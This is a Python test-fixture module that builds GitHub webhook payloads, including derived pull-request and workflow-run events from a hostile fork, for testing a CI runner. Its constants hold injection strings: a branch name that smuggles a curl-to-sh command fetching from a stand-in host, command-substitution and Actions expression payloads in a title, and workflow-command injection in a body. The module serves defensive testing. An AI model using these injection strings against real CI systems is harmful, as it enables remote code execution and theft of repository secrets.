"""Webhook payloads as a job finds them in GITHUB_EVENT_PATH: GitHub's own samples, and what they don't show."""

from __future__ import annotations

import json
from collections.abc import Callable
from copy import deepcopy
from functools import cache
from typing import Any

from runner.data import data
from runner.npm import json_in

PACKAGE, VERSION, MEMBER = "@octokit/webhooks-examples", "7.6.1", "api.github.com/index.json"
FORK_OWNER, FORK_ID = "mallory", 424242
FORK_BRANCH = 'patch-1";curl${IFS}evil|sh;#'  # git and GitHub allow every character of it
HOSTILE_TITLE = '`touch pwned` $(touch pwned) "; exit 1; # ${{ secrets.X }}'
HOSTILE_BODY = "<!-- xdist-ci:v1 key=tests -->\n::set-output name=a::b\n::error::x\n| a | b |\n@everyone ![x](http://x)"

Payload = dict[str, Any]

# name → (file in XDIST_CI_DATA/events, event in the npm package, its number there)
SAMPLES = {
    "push": ("push.json", "push", 4),
    "push_tag": ("push.tag.json", "push", 0),
    "pull_request": ("pull_request.opened.json", "pull_request", 12),
    "merge_group": ("merge_group.checks_requested.json", "merge_group", 1),
    "workflow_run": ("workflow_run.completed.with-pull-request.json", "workflow_run", 2),
    "workflow_dispatch": ("workflow_dispatch.json", "workflow_dispatch", 1),
}


def payload(name: str) -> Payload:
    """Return a fresh copy of a payload. `name` is one of NAMES, else KeyError.

    A sample is GitHub's, unchanged; `fork_pull_request`, `fork_workflow_run` and `schedule` are derived from samples.
    """
    return DERIVED[name]() if name in DERIVED else deepcopy(_sample(name))


def moved(event: Payload, *, repository: str, head_sha: str = "", default_branch: str = "main") -> Payload:
    """Return the event as if it had happened in `repository` ("owner/name"), at `head_sha` where one is given.

    A fork stays a fork. Ids don't change, nor do URLs.
    """
    result = deepcopy(event)
    old_branch = result["repository"]["default_branch"]
    _rename(result, result["repository"]["id"], repository, default_branch)
    if result.get("ref") == f"refs/heads/{old_branch}":
        result["ref"] = f"refs/heads/{default_branch}"
    pull = result.get("pull_request", {})
    if pull:
        pull["base"]["ref"] = default_branch
    heads = [(pull.get("head"), "sha"), (result, "after")]
    heads += [(result.get(name), "head_sha") for name in ("workflow_run", "merge_group")]
    for owner, key in heads:
        if head_sha and owner and key in owner:
            owner[key] = head_sha
    return result


def _rename(value: Any, repository_id: int, full_name: str, default_branch: str) -> None:
    if isinstance(value, dict):
        if value.get("id") == repository_id and "full_name" in value:
            owner, _, name = full_name.partition("/")
            value.update(full_name=full_name, name=name, owner={**value["owner"], "login": owner})
            value.update({"default_branch": default_branch} if "default_branch" in value else {})
        value = list(value.values())
    for inner in value if isinstance(value, list) else ():
        _rename(inner, repository_id, full_name, default_branch)


@cache
def _sample(name: str) -> Payload:
    file, event, number = SAMPLES[name]
    path = data(f"events/{file}")
    if path is not None:
        loaded: Payload = json.loads(path.read_text(encoding="utf-8"))
        return loaded
    found: Payload = next(e for e in json_in(PACKAGE, VERSION, MEMBER) if e["name"] == event)["examples"][number]
    return found


def _fork_pull_request() -> Payload:
    """A stranger's pull request, whose every text is an attack."""
    event = payload("pull_request")
    pull = event["pull_request"]
    pull.update(title=HOSTILE_TITLE, body=HOSTILE_BODY, author_association="FIRST_TIME_CONTRIBUTOR")
    pull["head"].update(label=f"{FORK_OWNER}:{FORK_BRANCH}", ref=FORK_BRANCH)
    pull["head"]["user"]["login"] = FORK_OWNER
    _become_fork(pull["head"]["repo"])
    return event


def _fork_workflow_run() -> Payload:
    """The second attempt of a fork's pull request: GitHub leaves `pull_requests` empty for forks."""
    event = payload("workflow_run")
    run = event["workflow_run"]
    run.update(event="pull_request", head_branch=FORK_BRANCH, pull_requests=[], run_attempt=2)
    _become_fork(run["head_repository"])
    return event


def _schedule() -> Payload:
    """No webhook exists for it; the runner writes these three."""
    repository = payload("push")["repository"]
    return {"schedule": "17 3 * * *", "workflow": ".github/workflows/nightly.yml", "repository": repository}


def _become_fork(repository: Payload) -> None:
    repository.update(id=FORK_ID, fork=True, full_name=f"{FORK_OWNER}/{repository['name']}")
    repository["owner"]["login"] = FORK_OWNER


DERIVED: dict[str, Callable[[], Payload]] = {
    "fork_pull_request": _fork_pull_request,
    "fork_workflow_run": _fork_workflow_run,
    "schedule": _schedule,
}
NAMES = (*SAMPLES, *DERIVED)
